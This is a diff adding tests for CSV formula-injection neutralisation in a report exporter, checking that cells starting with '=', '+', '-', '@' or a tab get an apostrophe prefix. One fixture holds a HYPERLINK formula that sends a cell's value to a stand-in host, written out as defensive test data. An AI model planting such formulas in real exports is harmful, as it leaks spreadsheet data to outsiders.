@@ -11,7 +11,7 @@ from sqlalchemy import text
 from tests.callrecords import dialogue, record, store
 from veertien.reports import REPORTS, ReportError, ReportParams, ReportTimeout, run_report
 from veertien.reports.charts import svg
-from veertien.reports.export import to_csv
+from veertien.reports.export import cell, to_csv
 from veertien.reports.model import limited
 from veertien.storage import DataDir
 from veertien.storage.store import Storage
@@ -185,3 +185,21 @@ def test_a_report_past_its_time_limit_stops(tmp_path: Path) -> None:
     assert REPORTS["gemeenten"].time_limit_s == 10.0
     assert run_report(storage.engine, "gemeenten", ALL, NAMES).totals["calls"] == 3000
     storage.close()
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised(calls: Storage) -> None:
+    """A municipality named like a formula (an imported directory is an operator's data) was
+    exported raw and ran in a spreadsheet: it now starts with an apostrophe (OWASP)."""
+    evil = {**NAMES, "GM0664": '=HYPERLINK("http://x.invalid/?"&A1,"klik")', "GM0678": "@SUM(1+1)"}
+    sheet = to_csv(run_report(calls.engine, "gemeenten", ALL, evil))
+    assert "'=HYPERLINK(" in sheet and "'@SUM(1+1)" in sheet
+    assert not any(line.split(";")[1].startswith(("=", "@")) for line in sheet.splitlines())
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+31", "'+31"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
+     ("Goes", "Goes"), (-5, -5), (0.25, 0.25), (None, "")],
+)  # fmt: skip
+def test_a_cell(value: object, written: object) -> None:
+    assert cell(value) == written
